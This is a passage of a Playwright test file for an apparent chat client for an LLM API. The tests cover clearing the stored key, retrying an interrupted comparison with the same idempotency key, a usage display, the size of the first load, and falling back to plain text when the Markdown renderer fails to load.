    }
    await expect(page.locator(".asked").first()).toContainText("Which?");
    await expect(page.getByRole("spinbutton").nth(1)).toHaveValue("1.5");
    await page.reload();
  }
  // The key is forgotten, and with it the comparison.
  await page.getByRole("button", { name: "Forget the key" }).click();
  await expect(page.getByLabel("API key")).toBeVisible();
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
});

test("a comparison that breaks before its first event is asked for again, once", async ({
  page,
  api,
  allowed,
}) => {
  allowed.push(/ERR_INCOMPLETE_CHUNKED|Failed to load resource/);
  api.script = { pieces: ["Both."], cut: 0 };
  await enter(page, api.url);
  await page.goto(`${api.url}/#compare`);
  const sent: (string | undefined)[] = [];
  page.on("request", (it) => it.method() === "POST" && sent.push(it.headers()["idempotency-key"]));
  await page.getByLabel("Question for both").fill("Which?");
  const asked = page.waitForResponse((it) => it.url().endsWith("/multiplex"));
  await page.keyboard.press("Enter");
  await asked;
  api.cut();
  for (const at of [0, 1]) await expect(page.getByRole("article").nth(at)).toContainText("Both.");
  expect(sent).toHaveLength(2);
  expect(sent[0]).toMatch(/^[\w-]{36}$/);
  expect(sent[1]).toBe(sent[0]);
});

test("what today's hours have used is shown before they are known by model", async ({
  page,
  api,
}) => {
  api.usage = { ...USAGE, data: [], complete_until: null };
  await enter(page, api.url);
  await page.goto(`${api.url}/#usage`);
  await expect(
    page.getByRole("img", { name: "Tokens by day and model: 31,600 in all" }),
  ).toBeVisible();
  const row = page.getByRole("row", { name: /not by model yet/ });
  await expect(row).toContainText("31,600 together");
  await expect(page.getByRole("list", { name: "Tokens by day and model" })).toContainText(
    "not by model yet",
  );
  await expect(page.getByText("none is over yet")).toBeVisible();
});

test("first load is small, and asks for what it needs only", async ({ page, api }) => {
  const loaded: string[] = [];
  page.on("requestfinished", (request) => loaded.push(new URL(request.url()).pathname));
  await enter(page, api.url);
  await expect(page.getByText("keeps questions and answers for 30 days")).toBeVisible();
  await expect(page.getByText("resume one for 24 hours")).toBeVisible();
  const scripts = loaded.filter((it) => it.startsWith("/assets/") && it.endsWith(".js"));
  // The page for a key, and the chat: nothing of the other pages, and no highlighting. What draws
  // Markdown is asked for a moment later.
  const names = scripts.map((it) => it.replace(/^\/assets\/(\w+)-.*$/, "$1")).toSorted();
  expect(names.filter((it) => it !== "markdown")).toEqual(["answer", "chat", "index", "wire"]);
  const sent = scripts.map((it) => gzipSync(readFileSync(join(DIST, it))).length);
  expect(sent.reduce((sum, it) => sum + it, 0)).toBeLessThan(100_000);
  expect(
    loaded.every((it) => it === "/" || it.startsWith("/assets/") || it.startsWith("/v1/")),
  ).toBe(true);
});

test("an answer is text if what draws Markdown cannot be loaded", async ({
  page,
  api,
  allowed,
}) => {
  allowed.push(/ERR_FAILED|Failed to/);
  await page.route("**/assets/markdown-*.js", (route) => route.abort());
  api.script = { pieces: ["Some **bold** <b>text</b>."] };
  await enter(page, api.url);
  await ask(page, "Hello");
  await complete(page);
  await expect(page.getByRole("article")).toContainText("Some **bold** <b>text</b>.");
  await page.unroute("**/assets/markdown-*.js");
  await ask(page, "Again");
  await expect(page.getByRole("article").last().locator("strong")).toHaveText("bold");
});
